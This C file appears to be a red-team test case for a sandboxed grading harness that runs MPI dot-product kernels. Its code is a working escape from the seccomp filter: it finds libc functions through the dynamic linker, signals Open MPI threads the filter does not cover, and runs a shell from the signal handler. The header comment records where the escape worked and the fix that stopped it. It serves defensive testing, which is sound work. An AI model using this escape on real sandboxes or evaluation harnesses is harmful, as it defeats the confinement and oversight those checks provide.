/* Red team, new class N3: run code on a thread the seccomp filter does not cover.
 *
 * prctl(PR_SET_SECCOMP) filters the calling thread and the threads it creates later, not the
 * threads that already exist. The MPI driver confines itself after MPI_Init, which has already
 * started Open MPI's helper threads: they run unfiltered. Rank 0 reaches sigaction, getpid and
 * tgkill through the dynamic linker's tables, installs a SIGURG handler and signals its own
 * process's other threads (tgkill to its own pid passes the filter); the handler runs on such a
 * thread and calls `system`, which forks and execs a shell. When the shell ran, the result is
 * marked (424242: wrong_answer "got 424242"); otherwise it is the honest dot product.
 * Found against a838585..7d807fe (prctl filter): the shell ran (wrong_answer, got 424242, under
 * both sandboxes). Defence since a7372bf: SECCOMP_FILTER_FLAG_TSYNC; the handler's fork is killed
 * (runtime_error: mpirun reports the rank's SIGSYS as exit code 159).
 */
#include <elf.h>
#include <link.h>
#include <math.h>
#include <mpi.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

static int streq_(const char *a, const char *b) { while (*a && *a == *b) { a++; b++; } return *a == *b; }
static uintptr_t fix(uintptr_t bias, uintptr_t v) { return v < bias ? v + bias : v; }

static ElfW(Dyn) *image_of(const void *inside, uintptr_t *bias) {
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    for (int i = 0; i < 4096; i++, p -= 4096) {
        if (memcmp((const void *)p, "\177ELF", 4) != 0) continue;
        const ElfW(Ehdr) *eh = (const void *)p;
        const ElfW(Phdr) *ph = (const void *)(p + eh->e_phoff);
        uintptr_t b = 0;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_LOAD && ph[k].p_offset == 0) b = p - ph[k].p_vaddr;
        *bias = b;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_DYNAMIC) return (ElfW(Dyn) *)(b + ph[k].p_vaddr);
        return 0;
    }
    return 0;
}

/* a function defined by any loaded object, found through the dynamic linker's list */
static void *find_function(const char *name) {
    uintptr_t bias;
    ElfW(Dyn) *dyn = image_of((const void *)&find_function, &bias);
    struct r_debug *rd = 0;
    for (ElfW(Dyn) *d = dyn; d && d->d_tag != DT_NULL; d++) if (d->d_tag == DT_DEBUG) rd = (struct r_debug *)d->d_un.d_ptr;
    for (struct link_map *lm = rd ? rd->r_map : 0; lm; lm = lm->l_next) {
        const ElfW(Sym) *sym = 0; const char *str = 0;
        for (ElfW(Dyn) *d = lm->l_ld; d && d->d_tag != DT_NULL; d++) {
            if (d->d_tag == DT_SYMTAB) sym = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
            else if (d->d_tag == DT_STRTAB) str = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
        }
        if (!sym || !str || (const void *)str <= (const void *)sym) continue;
        size_t nsym = (size_t)((const char *)str - (const char *)sym) / sizeof *sym;
        for (size_t i = 1; i < nsym; i++)
            if (sym[i].st_shndx != SHN_UNDEF && ELF64_ST_TYPE(sym[i].st_info) == STT_FUNC && streq_(str + sym[i].st_name, name))
                return (void *)(lm->l_addr + sym[i].st_value);
    }
    return 0;
}



static double honest(long n, const double *x, const double *y) {
    int rank, size;
    MPI_Comm_rank(MPI_COMM_WORLD, &rank);
    MPI_Comm_size(MPI_COMM_WORLD, &size);
    long chunk = (n + size - 1) / size, lo = rank * chunk, hi = lo + chunk < n ? lo + chunk : n;
    double part = 0.0, sum = 0.0;
    for (long i = lo; i < hi; i++) part += x[i] * tanh(y[i]);
    MPI_Reduce(&part, &sum, 1, MPI_DOUBLE, MPI_SUM, 0, MPI_COMM_WORLD);
    return sum;
}

typedef int (*shell_fn)(const char *);
typedef int (*sigaction_fn)(int, const struct sigaction *, struct sigaction *);
typedef int (*pid_fn)(void);
typedef int (*tgkill_fn)(int, int, int);

static shell_fn run_shell;
static pid_fn my_tid;
static volatile int main_tid, ran = -1;

static void on_signal(int sig) {
    (void)sig;
    if (my_tid() == main_tid || ran >= 0) return;
    ran = run_shell("echo kernopt-redteam: a shell ran from an unfiltered thread as $(id -u) >&2") == 0;
}

void dot(long n, const double *restrict x, const double *restrict y, double *restrict result) {
    double sum = honest(n, x, y);
    int rank;
    MPI_Comm_rank(MPI_COMM_WORLD, &rank);
    if (rank != 0) return;
    static int tried;
    if (!tried) {
        tried = 1;
        run_shell = (shell_fn)find_function("system");
        sigaction_fn act = (sigaction_fn)find_function("sigaction");
        pid_fn pid = (pid_fn)find_function("getpid");
        my_tid = (pid_fn)find_function("gettid");
        tgkill_fn tg = (tgkill_fn)find_function("tgkill");
        if (run_shell && act && pid && my_tid && tg) {
            struct sigaction sa;
            memset(&sa, 0, sizeof sa);
            sa.sa_handler = on_signal;
            act(SIGURG, &sa, 0);
            int me = pid();
            main_tid = my_tid();
            for (int t = me + 1; t < me + 256 && ran < 0; t++) {
                if (tg(me, t, 0) != 0) continue;  /* not a thread of this process */
                tg(me, t, SIGURG);
                for (long spin = 0; spin < 200000000L && ran < 0; spin++) {}
            }
        }
    }
    *result = ran > 0 ? 424242.0 : sum;
}
